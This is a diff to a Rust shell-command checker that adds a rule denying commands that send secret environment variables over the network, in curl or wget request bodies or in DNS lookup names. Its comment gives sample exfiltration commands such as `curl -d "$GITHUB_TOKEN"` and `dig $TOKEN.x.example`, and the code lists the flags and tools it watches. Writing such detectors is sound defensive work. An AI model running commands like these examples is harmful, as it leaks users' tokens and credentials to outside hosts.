@@ -115,6 +115,13 @@ pub(super) fn check(w: &mut Walker, name: &str, args: &[Arg], stdin: &Input, sho
         );
         return;
     }
+    if sends_secret_env(name, args) {
+        w.deny(
+            Family::Exfiltration,
+            format!("`{shown}` sends a secret environment variable over the network."),
+        );
+        return;
+    }
     let stdin_shell = matches!(stdin, Input::Stream(o) if o.taint.shell);
     if stdin_shell
         && matches!(
@@ -130,7 +137,7 @@ pub(super) fn check(w: &mut Walker, name: &str, args: &[Arg], stdin: &Input, sho
     }
     let stdin_secret = match stdin {
         Input::File(p) => p != "/dev/null" && p != "/dev/zero",
-        Input::Stream(o) => o.taint.secret || o.files_only,
+        Input::Stream(o) => o.taint.secret || o.taint.env_secret || o.files_only,
         _ => false,
     };
     let found = match name {
@@ -265,6 +272,45 @@ pub(super) fn check(w: &mut Walker, name: &str, args: &[Arg], stdin: &Input, sho
             Family::Exfiltration,
             format!("`{shown}` sends local files off the machine."),
         );
+    }
+}
+
+/// A secret variable in a request body (`curl -d "$GITHUB_TOKEN"`, `wget --post-data=…`) or
+/// a looked-up name (`dig $TOKEN.x.example`). In an auth header, a user option or the URL of
+/// an API it is the ordinary use of a token and stays allowed.
+fn sends_secret_env(name: &str, args: &[Arg]) -> bool {
+    const BODY: &[&str] = &[
+        "-d",
+        "--data",
+        "--data-ascii",
+        "--data-binary",
+        "--data-raw",
+        "--data-urlencode",
+        "--json",
+        "-F",
+        "--form",
+        "--form-string",
+        "--post-data",
+        "--body-data",
+        "--raw",
+    ];
+    let in_body = |k: usize| {
+        let a = &args[k].text;
+        let attached = BODY.iter().any(|o| {
+            a.starts_with(&format!("{o}=")) || (o.len() == 2 && a.starts_with(o) && a.len() > 2)
+        });
+        attached
+            || k.checked_sub(1)
+                .is_some_and(|p| BODY.contains(&args[p].text.as_str()))
+    };
+    match name {
+        "curl" | "wget" | "http" | "https" | "xh" | "xhs" => {
+            (0..args.len()).any(|k| args[k].taint.env_secret && in_body(k))
+        }
+        "dig" | "nslookup" | "host" | "drill" | "ping" | "ping6" => {
+            args.iter().any(|a| a.taint.env_secret)
+        }
+        _ => false,
     }
 }
 
